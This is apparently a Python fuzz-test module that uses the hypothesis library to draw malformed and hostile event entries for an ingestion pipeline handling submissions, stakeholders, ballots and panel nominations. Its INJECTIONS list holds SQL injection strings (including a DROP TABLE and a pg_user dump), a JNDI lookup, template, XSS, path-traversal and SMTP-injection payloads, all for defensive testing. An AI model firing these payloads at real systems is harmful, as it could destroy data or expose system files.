"""Hostile stream entries, drawn by hypothesis: what a broken or malicious publisher sends.

Broken JSON, wrong types, missing attributes, deep nesting, control
characters and homoglyphs, SQL and template injection strings, times far in
the future or without an offset, unknown types; oversized entries are added
by the test itself (hypothesis draws small values).
"""

from __future__ import annotations

import json
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from shared import topology

INJECTIONS = (
    "'; DROP TABLE submission_entry; --", "\" OR 1=1 --", "1; SELECT pg_sleep(10)", "x' UNION SELECT * FROM pg_user --",
    "{{ 7*7 }}", "{% for x in range(10**9) %}x{% endfor %}", "${jndi:ldap://example.invalid/a}", "<script>alert(1)</script>",
    "%s%s%s%n", "../../../../etc/passwd", "\u202eevil\u202c", "\x00", "\r\n.\r\nMAIL FROM:<x@example.invalid>",
)
HOMOGLYPHS = ("еntry-1", "ｅｎｔｒｙ", "entry\u200b-1", "vоter", "\u0430\u0435\u043e", "ﬁnal", "İ", "ß", "\ufeff")
TIMES = (
    "9999-12-31T23:59:59Z", "2999-01-01T00:00:00+14:00", "2021-01-10T10:00:00", "2021-01-10", "2021-02-30T10:00:00Z",
    "yesterday", "", "1970-01-01T00:00:00Z", "2021-01-10T10:00:00-12:00", "2021-01-10T10:00:00.123456789Z", "+002021-01-10T10:00:00Z",
)
KINDS = (
    "wsis.submission.submitted", "wsis.stakeholder.registered", "wsis.ballot.cast", "wsis.panel.nominated",
    "wsis.panel.nomination_withdrawn", "wsis.panel.winner_selected", "wsis.panel.winners_announced", "wsis.clock.tick",
    "wsis.vote.accepted", "wsis.deadletter", "WSIS.BALLOT.CAST", "wsis.ballot.cast ", "",
)
NATIVE = {
    topology.IN_SUBMISSIONS: "wsis.submission.submitted",
    topology.IN_STAKEHOLDERS: "wsis.stakeholder.registered",
    topology.IN_BALLOTS: "wsis.ballot.cast",
    topology.IN_PANEL: "wsis.panel.nominated",
    topology.IN_CLOCK: "wsis.clock.tick",
}
FIELDS = {
    topology.IN_SUBMISSIONS: ("submission_id", "entity", "coordinator", "category", "title", "short_description", "sdgs", "status"),
    topology.IN_STAKEHOLDERS: ("user_id", "username", "email", "organization"),
    topology.IN_BALLOTS: ("voter_id", "category", "project_id"),
    topology.IN_PANEL: ("submission_id", "category", "panel_member_id", "rationale"),
    topology.IN_CLOCK: (),
}

texts = st.one_of(
    st.text(max_size=12), st.sampled_from(INJECTIONS), st.sampled_from(HOMOGLYPHS),
    st.text(st.sampled_from("\x00\x07\x1b\u200b\u202e\ufeff\u0301 \t\n"), max_size=6),
)
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), texts, st.integers(min_value=2**63))
values = st.one_of(scalars, st.lists(scalars, max_size=3), st.dictionaries(texts, scalars, max_size=3))


def nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def data_for(stream: str) -> st.SearchStrategy[dict[str, Any]]:
    """`data` with the stream's own fields, each of them hostile, some missing, some extra."""
    fields = FIELDS[stream]
    return st.fixed_dictionaries({}, optional={f: values for f in fields}) | st.dictionaries(texts, values, max_size=5)


VALID_TIME = "2021-01-10T10:00:00Z"


@st.composite
def event_body(draw: st.DrawFn, stream: str) -> dict[str, Any]:
    """Mostly a sound envelope around hostile data; now and then a broken envelope."""
    envelope_ok = draw(st.integers(0, 3)) > 0
    body: dict[str, Any] = {
        "specversion": "1.0" if envelope_ok else draw(st.sampled_from(["1.0", "0.3", 1.0, None])),
        "id": draw(texts.filter(str.strip) if envelope_ok else st.one_of(texts, st.integers(), st.none())),
        "source": "fuzz" if envelope_ok else draw(st.one_of(texts, st.none())),
        "type": draw(st.sampled_from([NATIVE[stream]] * 6 + list(KINDS))) if envelope_ok else draw(st.one_of(texts, st.integers())),
        "time": draw(st.sampled_from([VALID_TIME] * 8 + list(TIMES))) if envelope_ok else draw(st.one_of(st.sampled_from(TIMES), st.integers())),
        "data": draw(data_for(stream)) if envelope_ok else draw(values),
    }
    if not envelope_ok:
        for attribute in draw(st.sets(st.sampled_from(sorted(body)), max_size=2)):
            del body[attribute]  # missing attributes
    if draw(st.integers(0, 4)) == 0:
        body[draw(texts)] = draw(values)  # an extension attribute, any name
    return body


@st.composite
def raw_entry(draw: st.DrawFn, stream: str) -> bytes:
    kind = draw(st.sampled_from(["event"] * 12 + ["bytes", "truncated", "nested", "not-an-object"]))
    if kind == "bytes":
        return draw(st.binary(max_size=200))
    if kind == "nested":
        return ('{"specversion":"1.0","id":"deep","source":"fuzz","type":"%s","time":"2021-01-10T10:00:00Z","data":%s}'
                % (NATIVE[stream], nested(draw(st.sampled_from([64, 600, 5000, 50_000]))))).encode()
    if kind == "not-an-object":
        return json.dumps(draw(values)).encode()
    body = json.dumps(draw(event_body(stream)), ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
    return body[: draw(st.integers(1, max(1, len(body) - 1)))] if kind == "truncated" else body


def draw_entries(stream: str, count: int, seed: int, per_example: int = 5) -> list[bytes]:
    """`count` hostile entries for `stream`, the same ones for the same seed.

    Each example draws a few entries: hypothesis's cost is mostly per example.
    """
    found: list[bytes] = []

    @settings(max_examples=-(-count // per_example), database=None, derandomize=True, phases=[Phase.generate],
              deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(raw_entry(stream), min_size=per_example, max_size=per_example))
    def collect(entries: list[bytes]) -> None:
        found.extend(entries)

    collect._hypothesis_internal_use_seed = seed  # type: ignore[attr-defined]
    collect()
    return found[:count]
